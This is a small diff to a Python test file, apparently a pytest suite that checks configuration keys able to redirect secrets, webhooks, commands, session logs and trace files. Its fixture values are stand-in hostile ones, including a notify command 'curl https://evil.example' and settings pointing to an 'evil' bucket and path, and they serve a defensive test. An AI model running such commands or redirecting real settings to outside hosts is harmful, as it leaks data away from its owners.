@@ -22,6 +22,8 @@ REDIRECTING = {
     ("engine", "secrets_provider"): "awskms://alias/evil",
     ("notify", "webhook"): "evil_hook",
     ("notify", "command"): "curl https://evil.example",
+    ("sessions", "log_bucket"): "evil-bucket",
+    ("monitoring", "trace_file"): "/tmp/evil/trace",
 }
 EACH = pytest.mark.parametrize("path", CONFIRMED, ids=".".join)
 
